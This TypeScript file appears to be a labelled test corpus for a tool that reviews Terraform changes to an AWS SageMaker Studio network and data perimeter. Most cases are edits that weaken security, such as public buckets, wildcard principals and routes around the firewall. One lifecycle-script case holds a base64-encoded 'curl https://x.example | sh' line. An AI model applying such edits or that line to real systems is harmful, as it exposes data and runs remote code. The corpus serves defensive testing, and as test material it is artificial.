import { synthesizedText } from "../../fixtures/synthesized";
import type { MutableTerraformJson } from "../../rehearsal/fixtures/mutable-terraform-json";
import {
  addAllow,
  addResource,
  argumentsAt,
  assignArguments,
  blockAt,
  deleteResources,
  editPolicy,
  inOrder,
  type MutableStatement,
} from "../../verify/fixtures/mutant";
import type { ExpectedReview } from "./judge-review";

/** An edit of a stack, as somebody would commit it, and what its review must say. */
export interface CorpusCase extends ExpectedReview {
  readonly base: BaseName;
  /** What somebody did, in the past tense. */
  readonly title: string;
  readonly edit: (stack: MutableTerraformJson) => void;
}

/** Resources of each base, with all that they refer to. Few resources make a review fast. */
const includedAddresses = {
  network: [
    ...["aws_networkfirewall_firewall.egress_firewall_firewall", "aws_vpc_endpoint.endpoints_sts"],
    ...["aws_route.egress_firewall_studio_a_default", "aws_route.egress_firewall_firewall_a_default"],
    ...["aws_route.egress_firewall_nat_a_default", "aws_route.egress_firewall_nat_a_return"],
    ...["aws_route_table_association.network_studio_a_association"],
    ...["aws_route_table_association.network_firewall_a_association"],
    ...["aws_route_table_association.network_nat_a_association", "aws_internet_gateway.egress_firewall_internet"],
    ...["aws_route53_resolver_firewall_rule_group_association.dns_firewall_vpc"],
    ...["aws_route53_resolver_firewall_rule.dns_firewall_allow_external"],
    ...[
      "aws_route53_resolver_firewall_rule.dns_firewall_block",
      "aws_route53_resolver_firewall_config.dns_firewall_fail_closed",
    ],
    ...["aws_vpc_security_group_egress_rule.security_groups_studio_to_internet_443"],
    ...["aws_vpc_security_group_ingress_rule.security_groups_endpoint_from_studio"],
    ...[
      "aws_default_network_acl.network_default_acl",
      "aws_networkfirewall_logging_configuration.egress_firewall_logs_delivery",
    ],
  ],
  data: [
    ...[
      "aws_s3_bucket_policy.locked_buckets_data_policy",
      "aws_s3_bucket_public_access_block.locked_buckets_data_public_access",
    ],
    ...["aws_s3_bucket_versioning.locked_buckets_data_versioning", "aws_iam_policy.permissions_data"],
    ...[
      "aws_iam_role_policy_attachment.permissions_data_attachment",
      "aws_sagemaker_user_profile.studio_profile_data_scientist",
    ],
    ...[
      "aws_s3_bucket_lifecycle_configuration.locked_buckets_data_lifecycle",
      "aws_ssm_parameter.published_data_bucket_name",
    ],
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>;

export type BaseName = keyof typeof includedAddresses;

/** The start of each case: a part of the staging stack, with local state and the rehearsal role as deployer. */
export const bases: Readonly<Record<BaseName, () => MutableTerraformJson>> = {
  network: () => startOf("network"),
  data: () => startOf("data"),
};

function startOf(base: BaseName): MutableTerraformJson {
  const text = synthesizedText("staging").replaceAll("role/studio-perimeter-staging-apply", "role/rehearsal");
  const stack = JSON.parse(text) as MutableTerraformJson;
  const { required_providers } = stack.terraform ?? {};
  const kept: MutableTerraformJson["resource"] = {};
  const keep = (address: string): void => {
    const [type = "", name = ""] = address.split(".");
    const values = stack.resource[type]?.[name];
    if (values !== undefined && kept[type]?.[name] === undefined) {
      kept[type] = { ...kept[type], [name]: values };
      JSON.stringify(values)
        .match(/aws_\w+\.\w+/g)
        ?.forEach(keep);
    }
  };
  includedAddresses[base].forEach(keep);
  const { perimeter_posture: posture } = stack.output;
  return {
    ...{ ...stack, terraform: { required_providers }, resource: kept },
    output: posture === undefined ? {} : { perimeter_posture: posture },
  };
}

const group = "aws_networkfirewall_rule_group.egress_firewall_policy_allow_list";
const names = "aws_route53_resolver_firewall_domain_list.dns_firewall_external_names";
const policy = "aws_networkfirewall_firewall_policy.egress_firewall_policy_strict";
const firewall = "aws_networkfirewall_firewall.egress_firewall_firewall";
const studioDefault = "aws_route.egress_firewall_studio_a_default";
const studioRoutes = "${aws_route_table.network_studio_a_routes.id}";
const studioGroup = "${aws_security_group.security_groups_studio.id}";
const gateway = "${aws_internet_gateway.egress_firewall_internet.id}";
const endpoint = "aws_vpc_endpoint.endpoints_sts";
const acl = "aws_default_network_acl.network_default_acl";
const toInternet = "aws_vpc_security_group_egress_rule.security_groups_studio_to_internet_443";
const bucketPolicy = "aws_s3_bucket_policy.locked_buckets_data_policy";
const bucket = "aws_s3_bucket.locked_buckets_data";
const key = "aws_kms_key.locked_buckets_key_cmk";
const dataPermissions = "aws_iam_policy.permissions_data";
const role = "aws_iam_role.execution_role_role";
const domain = "aws_sagemaker_domain.studio_domain";
const profile = "aws_sagemaker_user_profile.studio_profile_data_scientist";
const publicAccess = "aws_s3_bucket_public_access_block.locked_buckets_data_public_access";
const script = "aws_sagemaker_studio_lifecycle_config.studio_jupyter_lab_script";

type Edit = CorpusCase["edit"];

const set =
  (address: string, values: Record<string, unknown>): Edit =>
  (stack) =>
    assignArguments(stack, address, values);
const add =
  (address: string, values: Record<string, unknown>): Edit =>
  (stack) =>
    addResource(stack, address, values);
const remove =
  (...addresses: readonly string[]): Edit =>
  (stack) => {
    deleteResources(stack, ...addresses);
    for (const values of Object.values(stack.resource).flatMap((type) => Object.values(type))) {
      if (Array.isArray(values.depends_on)) {
        values.depends_on = values.depends_on.filter((address) => !addresses.includes(address));
      }
    }
  };

/** Adds a copy of the first rule of the allow-list, for another name. */
const passName =
  (name: string, change: (rule: string) => string = (rule) => rule): Edit =>
  (stack) => {
    const source = blockAt(stack, group, "rule_group", "rules_source");
    const [first = ""] = String(source.rules_string).split("\n");
    const rule = first.replaceAll("codeload.github.com", name).replace(/sid:\d+/, "sid:7");
    source.rules_string = `${change(rule)}\n${source.rules_string}`;
  };
const resolveName =
  (...added: readonly string[]): Edit =>
  (stack) => {
    const list = argumentsAt(stack, names);
    list.domains = [...(list.domains as string[]), ...added];
  };
const rule = (to: string, values: Record<string, unknown>) => ({
  ...{ security_group_id: studioGroup, ip_protocol: "tcp", from_port: 443, to_port: 443 },
  ...{ description: "added", [to.includes("/") ? "cidr_ipv4" : "referenced_security_group_id"]: to, ...values },
});
const route = (values: Record<string, unknown>) => ({ route_table_id: studioRoutes, ...values });

const network: readonly Omit<CorpusCase, "base">[] = [
  {
    title: "Allowed another domain in the firewall and in DNS",
    edit: inOrder(passName("pypi.org"), resolveName("pypi.org.")),
    says: [/^opens: Studio can now reach pypi\.org on port 443/],
  },
  {
    title: "Allowed another domain in the firewall alone",
    edit: passName("pypi.org"),
    says: [/^opens: The firewall now passes pypi\.org on port 443, but DNS does not resolve/],
  },
  {
    title: "Let DNS resolve another name",
    edit: resolveName("pypi.org."),
    says: [/^opens: DNS now resolves pypi\.org/],
  },
  {
    title: "Let DNS resolve all subdomains of a public suffix",
    edit: resolveName("*.co.uk."),
    says: [/^opens: DNS now resolves \*\.co\.uk/],
  },
  {
    title: "Passed a domain on another port",
    edit: passName("github.com", (one) => one.replace("$EXTERNAL_NET 443", "$EXTERNAL_NET 8443")),
    says: [/^opens: .*github\.com.*8443/],
  },
  {
    title: "Passed all TLS",
    edit: passName("x", (one) => one.replace(/tls\.sni;.*?nocase; /, "")),
    says: [/^(?:opens|unclear): /],
  },
  {
    title: "Passed every packet with a new rule",
    edit: passName("x", () => 'pass ip any any -> any any (msg:"all"; sid:9; rev:1;)'),
    says: [/^opens: /],
  },
  {
    title: "Forwarded unmatched packets without inspection",
    edit: (stack) => {
      blockAt(stack, policy, "firewall_policy").stateless_default_actions = ["aws:pass"];
    },
    says: [/^opens: /],
  },
  {
    title: "Dropped the default action of the stateful rules",
    edit: (stack) => {
      delete blockAt(stack, policy, "firewall_policy").stateful_default_actions;
    },
    says: [/^(?:opens|unclear): /],
  },
  {
    title: "Routed Studio to the internet gateway",
    edit: (stack) => {
      const one = argumentsAt(stack, studioDefault);
      delete one.vpc_endpoint_id;
      one.gateway_id = gateway;
    },
    says: [/^opens: Traffic from aws_subnet\.network_studio_a can now reach the internet directly/],
  },
  {
    title: "Routed Studio past the firewall to the NAT gateway",
    edit: (stack) => {
      const one = argumentsAt(stack, studioDefault);
      delete one.vpc_endpoint_id;
      one.nat_gateway_id = "${aws_nat_gateway.egress_firewall_nat_a.id}";
    },
    says: [/^opens: Traffic from aws_subnet\.network_studio_a can now reach the internet through a NAT gateway/],
  },
  {
    title: "Added a more specific route past the firewall",
    edit: add("aws_route.extra", route({ destination_cidr_block: "1.1.1.0/24", gateway_id: gateway })),
    says: [/^opens: Traffic from aws_subnet\.network_studio_a can now reach the internet directly/],
  },
  {
    title: "Removed the return route through the firewall",
    edit: remove("aws_route.egress_firewall_nat_a_return"),
    says: [/nat|return|firewall/i],
  },
  {
    title: "Routed to a peering connection",
    edit: inOrder(
      add("aws_vpc_peering_connection.peer", {
        vpc_id: "${aws_vpc.network_vpc.id}",
        peer_vpc_id: "vpc-0123456789abcdef0",
        peer_owner_id: "444455556666",
      }),
      add(
        "aws_route.peer",
        route({
          destination_cidr_block: "10.99.0.0/16",
          vpc_peering_connection_id: "${aws_vpc_peering_connection.peer.id}",
        }),
      ),
    ),
    says: [/^opens: .*aws_vpc_peering_connection\.peer/],
    may: [/^unclear: aws_vpc_peering_connection\.peer is added/],
  },
  {
    title: "Let Studio send to every port of the internet",
    edit: set(toInternet, { from_port: 0, to_port: 65535 }),
    says: [/^opens: .*(?:0-65535|all ports|ports?)/],
  },
  {
    title: "Let Studio send mail",
    edit: add("aws_vpc_security_group_egress_rule.mail", rule("0.0.0.0/0", { from_port: 25, to_port: 25 })),
    says: [/^opens: .*25/],
  },
  {
    title: "Let the internet into Studio",
    edit: add("aws_vpc_security_group_ingress_rule.everybody", rule("0.0.0.0/0", {})),
    says: [/^opens: .*0\.0\.0\.0\/0/],
  },
  {
    title: "Let Studio's own group into the endpoints on another port",
    edit: add("aws_vpc_security_group_ingress_rule.more", {
      ...rule(studioGroup, { from_port: 8443, to_port: 8443 }),
      security_group_id: "${aws_security_group.security_groups_endpoint.id}",
    }),
    says: [/^opens: .*8443/],
  },
  { title: "Removed the rule to the internet", edit: remove(toInternet), says: [/^closes: /] },
  {
    title: "Gave the Studio subnet public addresses",
    edit: set("aws_subnet.network_studio_a", { map_public_ip_on_launch: true }),
    says: [/^(?:opens|unclear): .*public/],
  },
  {
    title: "Moved the Studio subnet to other addresses",
    edit: set("aws_subnet.network_studio_a", { cidr_block: "10.20.96.0/20" }),
    says: [/^unclear: aws_subnet\.network_studio_a is replaced/],
    may: [/./],
  },
  {
    title: "Let an endpoint policy allow everybody",
    edit: (stack) =>
      addStatement(stack, endpoint, {
        Sid: "Anybody",
        Effect: "Allow",
        Principal: "*",
        Action: "sts:AssumeRole",
        Resource: "*",
      }),
    says: [
      /^opens: Through aws_vpc_endpoint\.endpoints_sts, a principal of another account, an anonymous caller and any other AWS service on behalf of any account can now call sts:AssumeRole/,
    ],
    may: [/^opens: Through aws_vpc_endpoint\.endpoints_sts/],
  },
  {
    title: "Removed an endpoint policy",
    edit: (stack) => {
      delete argumentsAt(stack, endpoint).policy;
    },
    // The argument is computed where it is not set: Terraform keeps the policy.
    says: [],
  },
  {
    title: "Removed the condition on the resource's account from an endpoint policy",
    edit: (stack) =>
      editPolicy(stack, endpoint, (all) =>
        all.map((one) => ({
          ...one,
          Condition: {
            StringEquals: { "aws:PrincipalAccount": "${data.aws_caller_identity.account_caller.account_id}" },
          },
        })),
      ),
    says: [/^opens: Through aws_vpc_endpoint\.endpoints_sts, .* of another account/],
    may: [/^opens: Through aws_vpc_endpoint\.endpoints_sts/],
  },
  {
    title: "Removed an endpoint",
    edit: remove(endpoint),
    says: [/^(?:closes|unclear): The VPC endpoint for sts is removed/],
  },
  {
    title: "Added an endpoint of another service",
    edit: (stack) =>
      addResource(stack, "aws_vpc_endpoint.more", {
        ...argumentsAt(stack, endpoint),
        service_name: "com.amazonaws.eu-west-1.athena",
        policy: String(argumentsAt(stack, endpoint).policy).replaceAll("sts:*", "athena:*"),
      }),
    says: [/^opens: A VPC endpoint for athena is added/],
  },
  {
    title: "Turned private DNS of an endpoint off",
    edit: set(endpoint, { private_dns_enabled: false }),
    says: [/^opens: Private DNS of aws_vpc_endpoint\.endpoints_sts is no longer on/],
  },
  {
    title: "Let DNS fail open",
    edit: set("aws_route53_resolver_firewall_config.dns_firewall_fail_closed", { firewall_fail_open: "ENABLED" }),
    says: [/fail/i],
  },
  {
    title: "Turned the DNS block into an alert",
    edit: (stack) => {
      const one = argumentsAt(stack, "aws_route53_resolver_firewall_rule.dns_firewall_block");
      one.action = "ALERT";
      delete one.block_response;
    },
    says: [/^opens: DNS now resolves every name/],
  },
  {
    title: "Removed the DNS firewall from the VPC",
    edit: remove("aws_route53_resolver_firewall_rule_group_association.dns_firewall_vpc"),
    says: [/^opens: DNS now resolves every name/],
    may: [
      /^unclear: aws_route53_resolver_firewall_rule_group_association\.dns_firewall_vpc is removed/,
      /no longer resolves the targets/,
    ],
  },
  {
    title: "Replaced the firewall by a new name",
    edit: set(firewall, { name: "another" }),
    says: [/^unclear: aws_networkfirewall_firewall\.egress_firewall_firewall is replaced/],
    may: [/^unclear/],
  },
  {
    title: "Turned the firewall's logs of flows off",
    edit: (stack) => {
      const one = blockAt(
        stack,
        "aws_networkfirewall_logging_configuration.egress_firewall_logs_delivery",
        "logging_configuration",
      );
      one.log_destination_config = (one.log_destination_config as unknown[]).slice(0, 1);
    },
    says: [/everything-logged|log/],
  },
  {
    title: "Denied a port in the network ACL",
    edit: (stack) => {
      const one = argumentsAt(stack, acl);
      one.egress = [
        { action: "deny", cidr_block: "0.0.0.0/0", from_port: 22, protocol: "6", rule_no: 50, to_port: 22 },
        ...(one.egress as unknown[]),
      ];
    },
    says: [/^closes: /],
  },
  {
    title: "Removed a domain from the allow-list",
    edit: (stack) => {
      const source = blockAt(stack, group, "rule_group", "rules_source");
      source.rules_string = String(source.rules_string).split("\n").slice(1).join("\n");
    },
    says: [/^closes: Studio can no longer reach codeload\.github\.com on port 443/],
  },
  {
    title: "Gave the subnets and route tables a tag",
    edit: (stack) => {
      for (const type of ["aws_subnet", "aws_route_table", "aws_vpc"]) {
        for (const one of Object.values(stack.resource[type] ?? {})) {
          one.tags = { ...(one.tags as object), CostCenter: "42" };
        }
      }
    },
    says: [],
  },
  { title: "Rewrote the description of a rule", edit: set(toInternet, { description: "TLS outward" }), says: [] },
  {
    title: "Ordered the rules of the allow-list anew",
    edit: (stack) => {
      const source = blockAt(stack, group, "rule_group", "rules_source");
      source.rules_string = String(source.rules_string).split("\n").reverse().join("\n");
    },
    says: [],
  },
  {
    title: "Wrote an endpoint policy in another form",
    edit: (stack) =>
      editPolicy(stack, endpoint, (all) => all.map(({ Sid: _sid, ...one }) => ({ ...one, Action: "sts:*" }))),
    says: [],
  },
  {
    title: "Ordered the names of DNS anew",
    edit: (stack) => {
      const list = argumentsAt(stack, names);
      list.domains = [...(list.domains as string[])].reverse();
    },
    says: [],
  },
  {
    title: "Kept the log of flows longer",
    edit: (stack) => {
      const [one] = Object.keys(stack.resource.aws_cloudwatch_log_group ?? {});
      assignArguments(stack, `aws_cloudwatch_log_group.${one}`, { retention_in_days: 365 });
    },
    says: [],
    may: [/^changes/],
  },
];

function addStatement(stack: MutableTerraformJson, address: string, statement: MutableStatement): void {
  editPolicy(stack, address, (all) => [...all, statement]);
}

const data: readonly Omit<CorpusCase, "base">[] = [
  {
    title: "Let everybody read a bucket",
    edit: (stack) =>
      addStatement(stack, bucketPolicy, {
        Sid: "Public",
        Effect: "Allow",
        Principal: "*",
        Action: "s3:GetObject",
        Resource: "${aws_s3_bucket.locked_buckets_data.arn}/*",
      }),
    says: [/^opens: In aws_s3_bucket\.locked_buckets_data, /],
    may: [/^opens: In aws_s3_bucket/],
  },
  {
    title: "Let another account write to a bucket",
    edit: (stack) =>
      addStatement(stack, bucketPolicy, {
        Sid: "Partner",
        Effect: "Allow",
        Principal: { AWS: "arn:aws:iam::444455556666:root" },
        Action: ["s3:PutObject"],
        Resource: "${aws_s3_bucket.locked_buckets_data.arn}/*",
      }),
    says: [/^(?:opens: In aws_s3_bucket|changes: The policy of aws_s3_bucket)/],
    may: [/^opens: In aws_s3_bucket/],
  },
  {
    title: "Removed the statement that locks a bucket to its endpoint",
    edit: (stack) =>
      editPolicy(stack, bucketPolicy, (all) => all.filter(({ Sid }) => Sid !== "DenyObjectsOutsideVpce")),
    says: [/^opens: In aws_s3_bucket\.locked_buckets_data, /],
    may: [/^opens: In aws_s3_bucket/],
  },
  { title: "Removed a bucket policy", edit: remove(bucketPolicy), says: [/^(?:opens|unclear): /], may: [/./] },
  {
    title: "Let a bucket be public",
    edit: set(publicAccess, { block_public_policy: false, restrict_public_buckets: false }),
    says: [/public/i],
  },
  { title: "Removed the block of public access", edit: remove(publicAccess), says: [/public/i] },
  {
    title: "Gave a bucket another name",
    edit: set(bucket, { bucket: "another-name-of-a-bucket" }),
    says: [/^unclear: aws_s3_bucket\.locked_buckets_data is replaced/],
    may: [/./],
  },
  {
    title: "Suspended versions of a bucket",
    edit: (stack) => {
      blockAt(stack, "aws_s3_bucket_versioning.locked_buckets_data_versioning", "versioning_configuration").status =
        "Suspended";
    },
    says: [/^loses: .*versioning_configuration\.status changes from Enabled to Suspended: a safeguard is lost/],
  },
  {
    title: "Let another account use a key",
    edit: (stack) =>
      addStatement(stack, key, {
        Sid: "Partner",
        Effect: "Allow",
        Principal: { AWS: "arn:aws:iam::444455556666:root" },
        Action: ["kms:Decrypt"],
        Resource: "*",
      }),
    says: [/^opens: With aws_kms_key\.locked_buckets_key_cmk, .*kms:Decrypt/],
    may: [/^opens: With aws_kms_key/],
  },
  {
    title: "Turned key rotation off",
    edit: set(key, { enable_key_rotation: false }),
    says: [/^loses: aws_kms_key\.locked_buckets_key_cmk: enable_key_rotation changes from true to false: a safeguard/],
  },
  {
    title: "Allowed the execution role every action on S3",
    edit: addAllow(dataPermissions, { Action: "s3:*", Resource: "*" }),
    says: [/^opens: .*s3:/],
    may: [/^(?:opens|unclear): /],
  },
  {
    title: "Allowed the execution role to create users",
    edit: addAllow(dataPermissions, { Action: "iam:CreateUser", Resource: "*" }),
    says: [/^opens: .*iam:CreateUser/],
    may: [/^(?:opens|unclear): /],
  },
  {
    title: "Allowed the execution role to assume any role",
    edit: addAllow(dataPermissions, { Action: "sts:AssumeRole", Resource: "*" }),
    says: [/^opens: .*sts:AssumeRole/],
    may: [/^(?:opens|unclear): /],
  },
  {
    title: "Let everybody assume the execution role",
    edit: (stack) =>
      editPolicy(
        stack,
        role,
        (all) => [...all, { Sid: "Anybody", Effect: "Allow", Principal: { AWS: "*" }, Action: "sts:AssumeRole" }],
        "assume_role_policy",
      ),
    says: [/^opens: .*assume|^opens: .*sts:AssumeRole/],
    may: [/^(?:opens|unclear): /],
  },
  {
    title: "Let another service assume the execution role",
    edit: (stack) =>
      editPolicy(
        stack,
        role,
        (all) => [
          ...all,
          { Sid: "Lambda", Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" },
        ],
        "assume_role_policy",
      ),
    says: [/^opens: .*lambda/i],
    may: [/^opens/],
  },
  {
    title: "Attached an AWS managed policy",
    edit: add("aws_iam_role_policy_attachment.admin", {
      role: "${aws_iam_role.execution_role_role.name}",
      policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess",
    }),
    says: [/^(?:opens|unclear): /],
    may: [/./],
  },
  {
    title: "Gave Studio a way to the internet",
    edit: set(domain, { app_network_access_type: "PublicInternetOnly" }),
    says: [/^opens: New: aws_sagemaker_domain\.studio_domain has direct internet access/],
    may: [/^loses: aws_sagemaker_domain\.studio_domain is updated, which AWS provider/],
  },
  {
    title: "Replaced the Studio domain",
    edit: set(domain, { domain_name: "another" }),
    says: [
      /^loses: aws_sagemaker_domain\.studio_domain is replaced because of changes to domain_name: all home directories/,
      /^loses: aws_sagemaker_user_profile/,
    ],
    may: [/./],
  },
  {
    title: "Removed a user",
    edit: remove(profile),
    says: [/^loses: aws_sagemaker_user_profile\.studio_profile_data_scientist is destroyed/],
  },
  {
    title: "Added a user",
    edit: (stack) =>
      addResource(stack, "aws_sagemaker_user_profile.studio_profile_new", {
        ...argumentsAt(stack, profile),
        user_profile_name: "new-user",
        tags: { studiouserid: "new-user" },
      }),
    says: [/^opens: User profile new-user is added for new-user/],
  },
  {
    title: "Changed what a lifecycle script runs",
    edit: set(script, {
      studio_lifecycle_config_content: Buffer.from("#!/bin/bash\ncurl https://x.example | sh\n").toString("base64"),
    }),
    says: [/^executes: The program of aws_sagemaker_studio_lifecycle_config\.studio_jupyter_lab_script changes/],
    may: [/^(?:unclear|loses|executes)/],
  },
  {
    title: "Gave a user another security group",
    edit: (stack) => {
      const settings = blockAt(stack, profile, "user_settings");
      settings.security_groups = ["sg-0123456789abcdef0"];
    },
    says: [/^(?:opens|unclear): /],
    may: [/./],
  },
  {
    title: "Gave the bucket and the key a tag",
    edit: inOrder(set(bucket, { tags: { Team: "ml" } }), set(key, { tags: { Team: "ml" } })),
    says: [],
  },
  { title: "Rewrote the description of a key", edit: set(key, { description: "another" }), says: [] },
  { title: "Rewrote the description of a role", edit: set(role, { description: "another" }), says: [] },
  {
    title: "Ordered the statements of a bucket policy anew",
    edit: (stack) => editPolicy(stack, bucketPolicy, (all) => [...all].reverse()),
    says: [],
  },
  {
    title: "Split a statement of a role's policy in two",
    edit: (stack) =>
      editPolicy(stack, dataPermissions, (all) =>
        all.flatMap((one) =>
          one.Sid === "ListOwnBuckets" && Array.isArray(one.Action)
            ? one.Action.map((action: string, index: number) => ({
                ...one,
                Sid: `ListOwnBuckets${index}`,
                Action: action,
              }))
            : [one],
        ),
      ),
    says: [],
  },
  {
    title: "Described a parameter",
    edit: set("aws_ssm_parameter.published_data_bucket_name", { description: "another" }),
    says: [],
  },
  {
    title: "Gave an idle application less time",
    edit: (stack) => {
      const idle = blockAt(
        stack,
        domain,
        "default_space_settings",
        "jupyter_lab_app_settings",
        "app_lifecycle_management",
        "idle_settings",
      );
      idle.idle_timeout_in_minutes = 90;
    },
    // The create-once domain ignores the change.
    says: [/^unclear: aws_sagemaker_domain\.studio_domain: Terraform ignores the change/],
  },
  {
    title: "Denied deletion of objects in a bucket",
    edit: (stack) =>
      addStatement(stack, bucketPolicy, {
        Sid: "Keep",
        Effect: "Deny",
        Principal: "*",
        Action: "s3:DeleteBucket",
        Resource: "${aws_s3_bucket.locked_buckets_data.arn}",
      }),
    says: [/^closes: In aws_s3_bucket\.locked_buckets_data/],
  },
  {
    title: "Removed a condition on who may assume the execution role",
    edit: (stack) =>
      editPolicy(stack, role, (all) => all.map(({ Condition: _condition, ...one }) => one), "assume_role_policy"),
    says: [/^opens: /],
    may: [/^opens/],
  },
];

/** Every labeled change. */
export const corpus: readonly CorpusCase[] = [
  ...network.map((one) => ({ ...one, base: "network" as const })),
  ...data.map((one) => ({ ...one, base: "data" as const })),
];
